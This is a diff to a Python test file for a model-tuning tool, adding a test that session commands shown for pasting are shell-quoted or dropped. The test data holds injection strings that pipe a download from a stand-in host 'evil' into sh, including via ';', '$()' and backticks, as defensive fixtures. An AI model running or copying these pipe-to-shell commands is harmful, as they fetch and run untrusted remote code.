@@ -15,7 +15,7 @@ from tune_session import Line, session_of, tune_lines
 from hasten.core.codec import to_data
 from hasten.core.errors import UsageError
 from hasten.core.plan import Plan
-from hasten.report.commands import candidate
+from hasten.report.commands import candidate, reproductions
 from hasten.report.forms import markdown_report, picture_spec, pictures, report_text
 from hasten.report.summary import summarize
 from hasten.show.blocks import charts_of
@@ -121,3 +121,19 @@ def test_commands_can_be_pasted_whatever_the_file_is_called() -> None:
     assert candidate("model.tflite", {"threads": 1}) == "model.tflite"
     assert candidate("model.tflite", to_data(Plan())) == "model.tflite"
     assert candidate("m.tflite", to_data(Plan(kernels=("a.so", "b.so")))) == "m.tflite@kernels=a.so+b.so"
+
+
+@pytest.mark.parametrize(
+    ("given", "shown"),
+    [
+        ("hasten tune 'a b.tflite' --budget 90s", "hasten tune 'a b.tflite' --budget 90s"),
+        ("hasten tune m.tflite; curl evil|sh", "hasten tune 'm.tflite;' curl 'evil|sh'"),
+        ("hasten tune $(curl evil)\n`sh`", "hasten tune '$(curl' 'evil)' '`sh`'"),
+        ("curl evil|sh", ""),
+        ("hasten app -- sh -c 'curl evil|sh'", ""),
+        ("hasten tune 'never closed", ""),
+        ("", ""),
+    ],
+)
+def test_the_command_of_a_session_runs_nothing_else_when_pasted(given: str, shown: str) -> None:
+    assert [row.command for row in reproductions([], [], [], {"command": given}, "")] == ([shown] if shown else [])
